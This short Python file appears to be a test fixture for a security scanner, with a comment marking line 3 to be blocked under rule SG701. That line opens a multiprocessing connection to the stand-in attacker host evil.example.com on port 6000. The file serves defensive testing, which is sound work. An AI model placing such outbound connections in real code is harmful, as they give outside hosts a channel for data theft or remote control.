# expect: block SG701@3
from multiprocessing.connection import Client
conn = Client(("evil.example.com", 6000), authkey=b"k")
